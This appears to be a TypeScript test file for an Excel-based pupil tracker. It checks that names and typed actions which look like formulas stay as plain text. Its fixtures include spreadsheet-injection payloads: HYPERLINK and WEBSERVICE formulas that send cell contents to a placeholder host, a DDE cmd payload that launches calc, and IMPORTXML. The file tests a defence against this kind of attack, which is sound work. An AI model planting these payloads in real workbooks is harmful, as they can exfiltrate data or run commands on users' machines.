import { attempt, stopClock } from "../../faults/faultBench";
import { columnOfId, rowOfKey, sheetMarked } from "../../faults/pagesOf";
import { plan } from "../../faults/termBetween";
import { openXlsx } from "../../../src/hosts/xlsx/openXlsx";
import { sheetRows } from "../../officeHost/fillFromRaw";
import type { HostCell } from "../../officeHost/model/cell";
import { openCell } from "../../officeHost/model/sheet";
import type { WorkbookModel } from "../../officeHost/model/workbook";
import { deleteSheet } from "../../officeHost/model/wholeSheets";
import { openOfficeHost } from "../../officeHost/openOfficeHost";
import { trackerFile } from "../../support/trackerFile";
import { sixPupils } from "../sixPupils";

beforeEach(stopClock);

/** A tracker in Excel in which pupils are called like this, refreshed. */
async function refreshedWith(names: readonly string[]): Promise<WorkbookModel> {
  const [y11, ...others] = sixPupils.sheets;
  const [headings = [], first = [], ...rest] = y11?.rows ?? [];
  const called = names.map((name, index) =>
    first.map((cell, column) => (column === 0 ? `q${index}` : column === 1 || column === 3 ? name : cell)),
  );
  const tracker = {
    fileName: "t.xlsx",
    sheets: [{ name: "Y11", rows: [headings, ...called, ...rest] }, ...others],
  };
  const file = await openXlsx(trackerFile(tracker), "t.xlsx");
  const host = openOfficeHost(sheetRows((await file.read()).sheets));
  host.close();
  const { workbook, ending } = await attempt(host.workbook);
  expect(ending).toBe("done");
  return workbook;
}

const cellsOf = (workbook: WorkbookModel): HostCell[] =>
  workbook.sheets
    .filter(({ properties }) => properties.size > 0)
    .flatMap(({ rows }) => [...rows.values()].flatMap((cells) => [...cells.values()]));

/** Every name stands on our sheets as the text it is, and no formula was made of one. */
async function expectNamesKept(names: readonly string[]): Promise<void> {
  const cells = cellsOf(await refreshedWith(names));
  for (const name of names) {
    const found = cells.filter(({ value }) => value === name);
    expect([name, found.length > 0, found.filter(({ formula }) => formula !== null)]).toEqual([
      name,
      true,
      [],
    ]);
  }
  const formulas = cells.flatMap(({ formula }) => formula ?? []);
  expect(formulas.filter((formula) => !formula.startsWith("=IF(LOWER(TRIM("))).toEqual([]);
}

/** What stands in an action after the officer put it there as text and the sheet was refreshed twice. */
async function typedAction(text: string, meanwhile?: (workbook: WorkbookModel) => void): Promise<HostCell> {
  const workbook = await refreshedWith([]);
  const sheet = sheetMarked(workbook, plan);
  openCell(sheet, rowOfKey(sheet, "spare:action-1"), columnOfId(sheet, "action")).value = text;
  await attempt(workbook);
  meanwhile?.(workbook);
  expect((await attempt(workbook)).ending).toBe("done");
  const now = sheetMarked(workbook, plan);
  return openCell(now, rowOfKey(now, "a-1"), columnOfId(now, "action"));
}

describe("formulas and scripts as text", () => {
  it("G01: a HYPERLINK is kept as text", async () => {
    await expectNamesKept(['=HYPERLINK("http://x/"&A1,"see")']);
  });

  it("G02: +, -, @ and a dash before words are kept", async () => {
    await expectNamesKept(["+SUM(1)", "-2+3", "@SUM(A1)", "- use EPM"]);
  });

  it("G03: white space of any kind before a sign is kept in what she typed", async () => {
    for (const space of ["\t", "\n", " ", "\u00a0", "\u200b"]) {
      expect(await typedAction(`${space}=1+1`)).toMatchObject({ value: `${space}=1+1`, formula: null });
    }
  });

  it("G04: a full-width sign is kept", async () => {
    await expectNamesKept(["＝1+1"]);
  });

  it("G05: WEBSERVICE, DDE and their like are kept, and no link is made", async () => {
    await expectNamesKept([
      '=WEBSERVICE("http://x/"&A1)',
      "=cmd|'/C calc'!A0",
      '=IMPORTXML("http://x","//a")',
      "=DDE(1)",
    ]);
  });

  it("G06: a formula's text with an apostrophe of its own keeps it", async () => {
    await expectNamesKept(["'=1+1"]);
    expect(await typedAction("'=1+1")).toMatchObject({ value: "'=1+1", formula: null });
  });

  it("G07: an action that begins with = comes back from the store when its sheet was deleted", async () => {
    const deleting = (workbook: WorkbookModel): void => deleteSheet(workbook, sheetMarked(workbook, plan));
    expect(await typedAction("=Agree support", deleting)).toMatchObject({
      value: "=Agree support",
      formula: null,
    });
  });

  it("G08: a list of more than 8,200 characters that begins with - is kept", async () => {
    const list = `-${" and one more thing".repeat(500)}`;
    const deleting = (workbook: WorkbookModel): void => deleteSheet(workbook, sheetMarked(workbook, plan));
    expect((await typedAction(list, deleting)).value).toBe(list);
  });

  it("G12: texts that look like dates, numbers and words of Excel's are not turned into them", async () => {
    await expectNamesKept(["1-Mar", "SEPT1", "1E5", "0012", "TRUE"]);
  });
});
